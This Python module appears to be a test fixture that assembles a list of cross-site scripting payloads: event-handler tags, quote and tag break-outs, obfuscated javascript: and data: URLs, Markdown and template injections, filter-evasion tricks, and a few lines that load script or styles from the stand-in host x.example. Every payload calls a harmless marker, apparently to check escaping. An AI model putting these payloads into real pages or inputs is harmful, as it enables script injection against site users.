"""Texts that run a script where a page puts them into HTML, an attribute or an address unescaped."""

RUN = "ran()"
_SHORT = f"<script>{RUN}</script>"

_ELEMENTS = [
    f"<{tag} {event}={RUN}>"
    for tag, event in (
        ("svg", "onload"),
        ("img src=x", "onerror"),
        ("body", "onload"),
        ("video src=x", "onerror"),
        ("audio src=x", "onerror"),
        ("iframe", "onload"),
        ("input autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("select autofocus", "onfocus"),
        ("details open", "ontoggle"),
        ("marquee", "onstart"),
        ("object data=x", "onerror"),
        ("embed src=x", "onload"),
        ("link rel=stylesheet href=x", "onerror"),
        ("a href=x autofocus tabindex=1", "onfocus"),
        ("div style=animation-name:turn", "onanimationstart"),
        ("svg><animate", "onbegin"),
        ("svg><set", "onbegin"),
        ("math><mtext", "onclick"),
        ("isindex", "onfocus"),
    )
]
_ENCLOSING = ("title", "textarea", "script", "style", "a", "pre")
_BREAKING_OUT = [
    f"{out}{into}"
    for out in ('">', "'>", "-->", "]]>", *(f"</{tag}>" for tag in _ENCLOSING))
    for into in (_SHORT, f"<img src=x onerror={RUN}>")
]
_ATTRIBUTES = [
    f"{quote}{space}{event}={quote}{RUN}"
    for quote in ('"', "'", "`", "")
    for space in (" ", "\t", "/")
    for event in ("onmouseover", "autofocus onfocus")
]
_ADDRESSES = [
    f"[a]({address})"
    for address in (
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
        f"javascript&colon;{RUN}",
        f"&#106;avascript:{RUN}",
        f"java&Tab;script:{RUN}",
        f"\x01javascript:{RUN}".replace("\x01", "&#1;"),
        f"javascript://x%0a{RUN}",
        f"data:text/html,{_SHORT}",
        "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
        f"vbscript:{RUN}",
        f'https://x.example/" onmouseover="{RUN}',
        f"<javascript:{RUN}>",
    )
]
_MARKDOWN = [
    f"![a](javascript:{RUN})",
    f'![a](x "\' onerror={RUN}")',
    f'![x" onerror="{RUN}](https://x.example/a.png)',
    f"<javascript:{RUN}>",
    f"<https://x.example/{_SHORT}>",
    f"```{_SHORT}\n{_SHORT}\n```",
    f'```" onclick="{RUN}\nx\n```',
    f"[a]: javascript:{RUN}\n\n[a]",
    f"`{_SHORT}`",
    f"# {_SHORT}",
    f"> {_SHORT}",
    f"- {_SHORT}",
    f"**<img src=x onerror={RUN}>**",
    f'[a](https://x.example "x" onclick="{RUN}")',
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
]
_TEMPLATES = [
    "{{ 7|add:7 }}{% debug %}",
    "{{constructor.constructor('ran()')()}}",
    "${ran()}",
    f"<template>{_SHORT}</template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    f"<svg><style>&lt;img src=x onerror={RUN}&gt;</style></svg>",
    f"<form><button formaction=javascript:{RUN}>x",
    "<base href=//x.example/>",
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f"<p hx-get=/ hx-trigger=load hx-on::load={RUN}>",
    f"<div hx-on:click={RUN} hx-vals=js:{RUN}>",
    "<style>@import 'https://x.example/x.css'</style>",
    f"<sc<script>ript>{RUN}</sc</script>ript>",
    f"＜script＞{RUN}＜/script＞",
    f"<script/x>{RUN}</script >",
    f"<<script>{RUN}//<</script>",
    "<script src=//x.example/x.js></script>",
]

PAYLOADS = [_SHORT, *_ELEMENTS, *_BREAKING_OUT, *_ATTRIBUTES, *_ADDRESSES, *_MARKDOWN, *_TEMPLATES]
